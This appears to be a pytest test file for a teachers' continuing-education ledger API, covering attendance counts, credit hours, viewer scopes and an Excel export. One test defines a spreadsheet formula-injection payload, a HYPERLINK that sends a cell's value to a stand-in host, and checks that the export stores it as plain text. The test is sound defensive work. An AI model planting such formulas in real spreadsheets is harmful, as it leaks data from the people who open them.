"""Attendance feeds the teachers' continuing-education ledger: numbers, hours, scopes, the workbook."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from tests.fixtures.activities import NASTY, create_activity, fire, record_all, teacher_ids


@pytest.fixture
def year(client, world, login, runtime, semester) -> int:
    h = login("lead-a")
    first = create_activity(client, login, runtime, world, credit_hours=3)
    first = fire(client, h, fire(client, h, first, "announce").json(), "hold").json()
    status = {"A-LEAD-T1": "present", "A-PIL-T1": "present", "A-M1-T1": "late", "A-M2-T1": "leave"}
    ids = dict(zip(status, teacher_ids(runtime, *status), strict=True))
    entries = [{"teacher_id": ids[code], "attendance": s} for code, s in status.items()]
    assert (
        client.put(f"/api/activities/{first['id']}/attendance", headers=h, json={"entries": entries}).status_code == 200
    )
    second = create_activity(
        client, login, runtime, world, format="公开课", credit_hours=2,
        participant_teacher_ids=teacher_ids(runtime, "A-M1-T1", "A-M1-T2"), presenter_teacher_ids=[],
    )  # fmt: skip
    second = fire(client, h, second, "announce").json()
    m1, m1b = teacher_ids(runtime, "A-M1-T1", "A-M1-T2")
    entries = [{"teacher_id": m1, "attendance": "absent"}, {"teacher_id": m1b, "attendance": "present"}]
    assert (
        client.put(f"/api/activities/{second['id']}/attendance", headers=h, json={"entries": entries}).status_code
        == 200
    )
    fire(client, h, second, "hold")
    # Planned only: attendance cannot even be recorded, and it never counts.
    create_activity(client, login, runtime, world, participant_teacher_ids=teacher_ids(runtime, "A-M1-T2"))
    return datetime.fromisoformat(first["starts_at"]).year


def rows(client, headers, year, **params):
    r = client.get("/api/ledger", headers=headers, params={"year": year, "format": "json", **params})
    assert r.status_code == 200, r.text
    return {row["teacher_code"]: row for row in r.json()}


def test_ledger_counts_attendance_roles_and_hours(client, login, year):
    got = rows(client, login("officer"), year)
    assert {k: (v["activities_attended"], v["presented"], v["participated"], v["leave"], v["absent"], v["hours"])
            for k, v in got.items() if k.startswith("A-")} == {
        "A-LEAD-T1": (1, 0, 1, 0, 0, 3.0),
        "A-LEAD-T2": (0, 0, 0, 0, 0, 0.0),
        "A-PIL-T1": (1, 1, 0, 0, 0, 3.0),
        "A-M1-T1": (1, 0, 1, 0, 1, 3.0),
        "A-M1-T2": (1, 0, 1, 0, 0, 2.0),
        "A-M2-T1": (0, 0, 0, 1, 0, 0.0),
    }  # fmt: skip
    assert "B-M1-T1" in got  # the bureau sees every teacher
    assert rows(client, login("officer"), year - 1)["A-M1-T1"]["activities_attended"] == 0


def test_ledger_scope_follows_the_viewer(client, world, login, year):
    assert set(rows(client, login("lead-a"), year)) == {
        "A-LEAD-T1",
        "A-LEAD-T2",
        "A-PIL-T1",
        "A-M1-T1",
        "A-M1-T2",
        "A-M2-T1",
    }
    assert set(rows(client, login("kg-a1"), year)) == {"A-M1-T1", "A-M1-T2"}
    assert set(rows(client, login("pillar-a"), year)) == {"A-PIL-T1"}
    assert set(rows(client, login("officer"), year, kindergarten_id=world.kid("A-M2"))) == {"A-M2-T1"}
    for who, other in (("kg-a1", "A-M2"), ("lead-a", "B-M1"), ("lead-b", "A-M1")):
        r = client.get("/api/ledger", headers=login(who), params={"year": year, "kindergarten_id": world.kid(other)})
        assert r.status_code == 404


def test_ledger_workbook_has_a_summary_and_details(client, login, year):
    r = client.get("/api/ledger", headers=login("lead-a"), params={"year": year})
    assert r.status_code == 200 and "filename*=UTF-8''" in r.headers["content-disposition"]
    book = load_workbook(io.BytesIO(r.content))
    summary, detail = book.worksheets
    assert summary.title == f"{year}年汇总" and detail.title == f"{year}年明细"
    head = [c.value for c in summary[1]]
    assert head[:3] == ["园所", "工号", "姓名"] and head[-1] == "学时"
    by_code = {row[1]: row for row in summary.iter_rows(min_row=2, values_only=True)}
    assert by_code["A-M1-T2"][2] == f"{NASTY}老师" and by_code["A-M1-T2"][-1] == 2
    lines = list(detail.iter_rows(min_row=2, values_only=True))
    assert len(lines) == 6  # four in the first activity, two in the second
    assert {line[9] for line in lines} == {"出席", "迟到", "请假", "缺席"}
    assert r.content == client.get("/api/ledger", headers=login("lead-a"), params={"year": year}).content


LEAK = '=HYPERLINK("http://x/?leak="&C2,"点击")'


def test_a_topic_that_looks_like_a_formula_is_text_in_the_workbook(client, world, login, runtime, semester):
    h = login("lead-a")
    activity = create_activity(client, login, runtime, world, topic=LEAK, credit_hours=1)
    activity = fire(client, h, fire(client, h, activity, "announce").json(), "hold").json()
    assert record_all(client, h, activity).status_code == 200
    year = datetime.fromisoformat(activity["starts_at"]).year
    r = client.get("/api/ledger", headers=h, params={"year": year})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    detail = load_workbook(io.BytesIO(r.content)).worksheets[1]
    cells = [row[5] for row in detail.iter_rows(min_row=2) if row[5].value == LEAK]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
